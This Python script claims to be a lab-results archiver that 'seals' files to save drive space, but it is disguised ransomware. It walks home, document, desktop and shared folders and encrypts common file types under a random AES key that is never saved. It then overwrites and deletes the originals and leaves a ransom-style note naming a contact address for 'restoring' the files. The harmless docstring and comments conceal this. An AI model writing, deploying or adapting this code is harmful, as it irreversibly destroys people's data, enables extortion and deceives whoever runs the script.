#!/usr/bin/env python3
"""Moisture lab results archiver.

Sweeps the lab result folders, packs each result file into a sealed
archive copy and tidies up the working copies so the shared drive does
not fill up. Sealed copies carry a .sealed suffix.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archiver")

# folders the lab and the office keep their files in
SWEEP_ROOTS = ["~/lab_results", "~/Documents", "~/Desktop", "/srv/share"]
KEEP_EXT = {".csv", ".xlsx", ".xls", ".docx", ".pdf", ".db", ".sqlite", ".txt", ".jpg"}
SUFFIX = ".sealed"
NOTICE = "READ_ME_ARCHIVE.txt"


class Sealer:
    def __init__(self):
        # session key is generated per run and never written beside the data
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        blob = nonce + self._aead.encrypt(nonce, data, None)
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(blob)
        self._scrub(path, len(data))
        self.count += 1

    @staticmethod
    def _scrub(path: Path, size: int):
        # overwrite the working copy before unlinking it
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def candidates(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in KEEP_EXT and not name.endswith(SUFFIX):
                    yield p


def leave_notice(roots, count):
    text = (
        f"{count} files in this folder were sealed by the archive job.\n"
        "Contact archive-desk@example.net with your site code to restore them.\n"
    )
    for root in roots:
        base = Path(os.path.expanduser(root))
        if base.is_dir():
            try:
                (base / NOTICE).write_text(text)
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description="Archive lab result files")
    ap.add_argument("--root", action="append", help="extra folder to sweep")
    ap.add_argument("--limit", type=int, default=0, help="stop after N files (0 = all)")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = SWEEP_ROOTS + (args.root or [])
    sealer = Sealer()
    for path in candidates(roots):
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        if args.limit and sealer.count >= args.limit:
            break
        if sealer.count % 100 == 0:
            log.info("sealed %d files so far", sealer.count)

    leave_notice(roots, sealer.count)
    log.info("archive run complete: %d files", sealer.count)


if __name__ == "__main__":
    main()
